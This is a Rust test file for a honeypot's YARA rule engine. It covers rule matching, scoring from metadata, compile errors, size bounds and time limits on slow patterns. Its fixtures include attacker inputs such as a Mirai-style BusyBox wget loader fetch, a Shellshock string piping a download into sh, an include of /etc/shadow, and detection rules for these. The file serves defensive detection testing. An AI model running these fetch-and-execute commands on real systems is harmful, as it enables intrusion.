//! What rules see, what is told of them, and where they are cut off.

use super::*;
use honeymesh_detect::{Sight, Tally};
use honeymesh_types::{RULE_MARK_BYTES_MAX, RULE_MARKS_MAX};
use std::{collections::BTreeMap, fmt::Write};

fn file(name: &str, text: &str) -> RuleFile {
    RuleFile { name: name.into(), text: text.into() }
}

fn eyes(files: &[RuleFile]) -> Eyes {
    let (rules, _) = compile(files).unwrap_or_else(|wrong| panic!("{wrong:?}"));
    Eyes::new(&[], Some(rules))
}

fn seen(eyes: &Eyes, said: &[u8]) -> Sight {
    eyes.look(said, &BTreeMap::new(), &Tally::default())
}

fn words(sight: &Sight) -> Vec<&str> {
    sight.marks.rules.iter().map(|rule| rule.words.as_str()).collect()
}

fn wrong(text: &str) -> String {
    let problems = compile(&[file("a.yar", text)]).unwrap_err();
    assert_eq!(problems.len(), 1, "{problems:?}");
    let at = problems[0].at.map_or_else(String::new, |at| format!("{at}: "));
    format!("{at}{}", problems[0].what)
}

fn warned(text: &str) -> Vec<String> {
    compile(&[file("a.yar", text)]).unwrap().1.into_iter().map(|problem| problem.what).collect()
}

const LOADER: &str = r#"
rule loader : botnet {
    meta:
        description = "fetches a loader"
        score = 70
        hostile = true
    strings:
        $a = "busybox" nocase
        $b = /\/bins\/[a-z0-9]{3,8}\.(sh|x86|arm)/
    condition: all of them
}
rule plain { strings: $a = "busybox" condition: $a }
private rule never_told { condition: true }
"#;

#[test]
fn a_rule_that_matches_is_told_with_what_it_says_of_itself() {
    let eyes = eyes(&[file("mirai.yar", LOADER)]);
    let sight = seen(&eyes, b"/bin/BusyBox wget http://198.51.100.9/bins/mips.x86; busybox");
    assert_eq!(words(&sight), ["loader of mirai.yar: fetches a loader", "plain of mirai.yar"]);
    let told: Vec<(u8, bool)> = sight.marks.rules.iter().map(|rule| (rule.points, rule.is_hostile)).collect();
    assert_eq!(told, [(70, true), (RULE_POINTS, false)]);
    assert_eq!(sight.facts["rules"], "loader plain");
    let quiet = seen(&eyes, b"GET / HTTP/1.1\r\n\r\n");
    assert!(quiet.marks.rules.is_empty() && !quiet.facts.contains_key("rules"), "{quiet:?}");
}

#[test]
fn without_rules_the_same_is_seen_as_by_the_recognisers_alone() {
    let said = b"() { :;}; wget http://198.51.100.9/x -O- | sh";
    let alone = honeymesh_detect::Recogniser::new(&[]).look(said, &BTreeMap::new(), &Tally::default());
    assert_eq!(seen(&Eyes::new(&[], None), said), alone);
    let mut with = seen(&eyes(&[file("a.yar", "rule all { condition: true }")]), said);
    assert_eq!(with.facts.remove("rules").as_deref(), Some("all"));
    with.marks.rules.clear();
    assert_eq!(with, alone);
}

#[test]
fn opened_layers_bodies_and_programs_are_looked_at_as_if_they_were_alone() {
    let text = r#"
        rule secret { strings: $a = "the-hidden-words-of-this-test" condition: $a }
        rule script { condition: uint16(0) == 0x2123 and filesize < 40 }
        rule elf { condition: uint32(0) == 0x464c457f and uint16(18) == 40 }
    "#;
    let eyes = eyes(&[file("a.yar", text)]);
    let wrapped = seen(&eyes, b"GET /?q=dGhlLWhpZGRlbi13b3Jkcy1vZi10aGlzLXRlc3Q%3d HTTP/1.1\r\n\r\n");
    assert_eq!(words(&wrapped), ["secret of a.yar (in base64)"]);
    let body = seen(&eyes, b"PUT /x HTTP/1.1\r\nHost: h\r\nContent-Length: 17\r\n\r\n#!/bin/sh\nreboot\n");
    assert_eq!(words(&body), ["script of a.yar"]);
    let elf = b"\x7fELF\x01\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x28\0\x01\0\0\0";
    let inside = seen(&eyes, &[&b"STOR x --boundary\n"[..], elf].concat());
    assert_eq!(words(&inside), ["elf of a.yar"]);
}

#[test]
fn fields_are_what_the_trap_made_and_no_rule_looks_at_them() {
    let eyes = eyes(&[file("a.yar", "rule short { condition: filesize < 9 }")]);
    let fields = BTreeMap::from([("username".to_owned(), "root".to_owned())]);
    let sight = eyes.look(b"a long line that was said", &fields, &Tally::default());
    assert!(sight.marks.rules.is_empty(), "{sight:?}");
}

#[test]
fn points_come_from_score_or_severity_and_are_forty_without() {
    let text = r#"
        rule a { meta: score = 0 condition: true }
        rule b { meta: severity = 90 condition: true }
        rule c { meta: severity = 90 score = 10 condition: true }
        rule d { meta: score = 101 condition: true }
        rule e { meta: score = "high" hostile = 1 condition: true }
        rule f { meta: score = -1 severity = 7 hostile = false condition: true }
    "#;
    let sight = seen(&eyes(&[file("a.yar", text)]), b"x");
    let points: Vec<u8> = sight.marks.rules.iter().map(|rule| rule.points).collect();
    assert_eq!(points, [0, 90, 10, RULE_POINTS, RULE_POINTS, 7]);
    assert!(sight.marks.rules.iter().all(|rule| !rule.is_hostile));
    let expected = [
        "rule d: `score` in meta is not understood and does not count; write a whole number from 0 to 100",
        "rule e: `score` in meta is not understood and does not count; only a whole number from 0 to 100 counts here",
        "rule e: `hostile` in meta is not understood and does not count; only true and false count here",
        "rule f: `score` in meta is not understood and does not count; write a whole number from 0 to 100",
    ];
    assert_eq!(warned(text), expected);
}

#[test]
fn mistakes_are_told_with_their_place_and_their_mend() {
    let table = [
        ("rule a { condition: $b }", "20: unknown variable $b; mend the rule here"),
        ("rule a {", "8: syntax error; mend the rule here"),
        (
            "include \"/etc/shadow\"",
            "0: includes are not allowed; they could name any file: put the rules into the folder, where every *.yar and *.yara is read",
        ),
        ("import \"pe\"", "0: unknown import pe; modules here are math, string, time; leave out what needs another"),
        ("import \"console\"", "0: unknown import console; modules here are math, string, time; leave out what needs another"),
        ("rule a { condition: filename == \"x\" }", "20: unknown identifier \"filename\"; nothing here has that name"),
        (
            "rule a { strings: $a = \"abc\" condition: true }",
            "18: variable $a is unused; use it in the condition, or leave it out",
        ),
        ("rule a { condition: true } rule a { condition: true }", "32: "),
    ];
    for (text, expected) in table {
        let told = wrong(text);
        assert!(told.starts_with(expected), "{text}: {told}");
    }
    let two = [file("a.yar", "rule a { condition: b }"), file("good.yar", "rule b { condition: true }"), file("c.yar", "rul")];
    let files: Vec<_> = compile(&two).unwrap_err().into_iter().map(|problem| problem.file.unwrap()).collect();
    assert_eq!(files, ["a.yar", "c.yar"], "one of each file, and no file sees another's rules");
}

#[test]
fn each_bound_is_named_when_it_is_exceeded() {
    let rules = |count: usize| (0..count).fold(String::new(), |text, n| text + &format!("rule r{n} {{ condition: false }}\n"));
    let strings = |count: usize, string: &str| {
        let strings = (0..count).fold(String::new(), |text, n| text + &format!("$s{n} = {string}\n"));
        format!("rule a {{ strings: {strings} condition: any of them }}")
    };
    let many: Vec<_> = (0..=RULE_FILES_MAX).map(|n| file(&n.to_string(), "")).collect();
    let told = |files: &[RuleFile]| compile(files).unwrap_err().remove(0).what;
    assert_eq!(told(&many), "257 files; keep 256 at most, several rules may share one");
    let long = file("a", &" ".repeat(RULE_BYTES_MAX + 1));
    assert_eq!(told(&[long]), "4194305 octets of rules; keep 4194304 at most");
    assert_eq!(told(&[file("a", &rules(RULES_MAX)), file("b", &rules(1))]), "more than 4096 rules; keep 4096 at most");
    let most = strings(RULE_STRINGS_MAX, "\"ab\"");
    assert_eq!(told(&[file("a", &most), file("b", &most)]), "more than 16384 strings; keep 16384 at most");
    let automata = strings(RULE_AUTOMATA_MAX + 1, "/fixed[a-z]{2,9}(x|yz)/");
    assert_eq!(told(&[file("a", &automata)]), "more than 1024 automata of expressions; keep 1024 at most");
    let loose = strings(RULE_LOOSE_STRINGS_MAX + 1, "/[a-z]+/");
    assert_eq!(
        told(&[file("a", &loose)]),
        "more than 16 strings without two fixed octets in a row, or with ^ or $; keep 16 at most"
    );
    assert!(warned(&strings(1, "/[a-z]+/"))[0].starts_with("rule a: $s0 has no two fixed octets in a row, or has ^ or $, so"));
    assert!(warned(&strings(1, r"/^GET \/shell\?cd/"))[0].contains("instead of ^ a string in quotes and `$a at 0`"));
}

/// Strings whose every hit is looked at for kilobytes: 64 KiB of the right octets take seconds.
fn quadratic() -> RuleFile {
    let mut text = String::new();
    for n in 0..20 {
        writeln!(text, "rule q{n} {{ strings: $a = /aaaa.{{0,4000}}b{n}[xy]/s condition: $a }}").unwrap();
    }
    text.push_str("rule found { strings: $a = \"found me\" condition: $a }\n");
    file("quadratic.yar", &text)
}

#[test]
fn what_would_take_seconds_is_cut_and_said_to_be() {
    let eyes = eyes(&[quadratic()]);
    assert_eq!(seen(&eyes, b"found me").facts["rules"], "found");
    let begun = purse::worked();
    let cut = seen(&eyes, &vec![b'a'; 64 * 1_024]);
    let took = purse::worked() - begun;
    assert_eq!(cut.facts["rules"], "+");
    assert!(took < Duration::from_secs(1), "cut after {took:?}");
    // Whoever goes on finds the rules at rest once they have had their share, and everything else is recognised as always.
    eyes.rules().unwrap().purse.spend(Duration::from_secs(60));
    let begun = purse::worked();
    let rest = seen(&eyes, b"found me; wget http://198.51.100.9/x");
    assert!(purse::worked() - begun < Duration::from_millis(20));
    assert_eq!((rest.facts["rules"].as_str(), rest.facts["download"].as_str()), ("+", "http://198.51.100.9/x"));
}

/// Rules as anybody writes them, and what holds boreal up if it is let.
fn slow() -> Vec<(&'static str, Vec<u8>)> {
    let again = |octets: &[u8]| octets.iter().copied().cycle().take(64 * 1_024).collect::<Vec<u8>>();
    let behind = |first: u8, then: &[u8]| [vec![first; 4_096].as_slice(), again(then).as_slice()].concat();
    vec![
        (r"$a = /[a-z0-9.-]+\.duckdns\.org/", again(b".duckdns.org")),
        (r"$a = /[a-z0-9.-]+\.duckdns\.org/ nocase wide ascii", again(b".\0d\0u\0C\0k\0d\0n\0s\0.\0o\0r\0g\0")),
        (r"$a = /https?:\/\/.+\.example\.com/", again(b"http://a.example.com")),
        (r"$a = /a.{0,4000}bbbb/", behind(b'a', b"b")),
        ("$a = { 4D 5A [0-4000] 50 45 00 00 }", again(b"MZMZMZMZPE\0\0")),
        (r"$a = /[ab]*a[ab]{0,2000}wxyz/", again(b"abbabaabbaababbabaababbaabbabaabwxyz")),
        (r"$a = /[a-z]+/ fullword", [vec![b'a'; 64 * 1_024].as_slice(), b"1"].concat()),
        (r"$a = /[a-z]+[0-9]*/", again(b"a")),
    ]
}

/// How much of it may just be looked at, and how long that takes.
fn most_allowed(rules: &Rules, said: &[u8]) -> (usize, Duration) {
    let (mut most, mut refused) = (0, said.len() + 1);
    while refused - most > 1 {
        let tried = (most + refused) / 2;
        if rules.toll.allows(&said[..tried]) {
            most = tried;
        } else {
            refused = tried;
        }
    }
    let begun = purse::worked();
    drop(rules.scanner.scan_mem(&said[..most]));
    (most, purse::worked() - begun)
}

#[test]
fn no_accepted_rule_holds_everybody_up_whatever_is_said() {
    for (string, said) in slow() {
        let (sender, done) = std::sync::mpsc::channel();
        let rule = format!("rule a {{ strings: {string} condition: $a }}");
        // In a thread of its own: a failure must not take a minute to be told.
        std::thread::spawn(move || {
            let told = check(&[file("a.yar", &rule)]).unwrap();
            let eyes = eyes(&[file("a.yar", &rule)]);
            let begun = purse::worked();
            let sight = seen(&eyes, &said);
            let took = purse::worked() - begun;
            sender.send((told, took, most_allowed(eyes.rules().unwrap(), &said), sight.facts.get("rules").cloned())).unwrap();
        });
        let (told, took, most, rules) =
            done.recv_timeout(Duration::from_secs(10)).unwrap_or_else(|_| panic!("{string} takes longer than 10 s"));
        println!("{string}: {took:?} {rules:?}; the most that is allowed: {most:?}");
        assert!(took.max(most.1) < Duration::from_secs(2), "{string}: {took:?}, {most:?}");
        assert!(!told.is_empty(), "{string} is warned of");
        assert!(rules.is_some(), "{string} is cut, or has matched");
    }
}

#[test]
fn ordinary_requests_are_looked_at_whatever_the_rules_reach() {
    let table = [
        (r"$a = /[a-z0-9.-]+\.duckdns\.org/", "curl -O http://x.duckdns.org/a; wget http://y.duckdns.org/b; "),
        (r"$a = /https?:\/\/.+\.example\.com/", "wget http://a.example.com/x; "),
        (r"$a = /[a-z0-9.-]{1,64}\.duckdns\.org/", &"wget http://x.duckdns.org/a;\n".repeat(1_000)),
    ];
    for (string, said) in table {
        let eyes = eyes(&[file("a.yar", &format!("rule a {{ strings: {string} condition: $a }}"))]);
        assert_eq!(seen(&eyes, said.as_bytes()).facts["rules"], "a", "{string}");
    }
    assert_eq!(warned(r"rule a { strings: $a = /[a-z0-9.-]{1,64}\.duckdns\.org/ condition: $a }"), [""; 0]);
}

#[test]
fn what_is_told_is_bounded_and_harmless() {
    let mut text = String::new();
    for n in 0..100 {
        let description = "\\x1b[2J".repeat(60);
        writeln!(text, "rule r{n} {{ meta: description = \"{description}\" condition: true }}").unwrap();
    }
    let sight = seen(&eyes(&[file("a.yar", &text)]), b"x");
    assert_eq!(sight.marks.rules.len(), RULE_MARKS_MAX);
    assert!(sight.facts["rules"].ends_with(" r15+"), "{:?}", sight.facts);
    for words in words(&sight) {
        assert!(words.len() <= RULE_MARK_BYTES_MAX && !words.chars().any(honeymesh_types::is_unsafe), "{words:?}");
    }
}

#[test]
fn rules_that_could_hold_everybody_up_are_found_when_they_are_checked() {
    let told = check(&[quadratic()]).unwrap();
    assert!(told[0].what.starts_with("rule q0: $a reaches so far from its fixed octets that a long piece"), "{told:?}");
    assert_eq!((told[0].file.as_deref(), told[0].at), (Some("quadratic.yar"), Some(19)));
    let loops = "import \"math\" rule l { condition: for all i in (0..9000) : (math.entropy(0, filesize) < 1.0) }";
    let told = check(&[file("loops.yar", loops)]).unwrap();
    assert!(told.len() == 1 && told[0].what.starts_with("64 KiB of zeros take "), "{told:?}");
    assert_eq!(check(&[file("mirai.yar", LOADER)]).unwrap(), []);
}
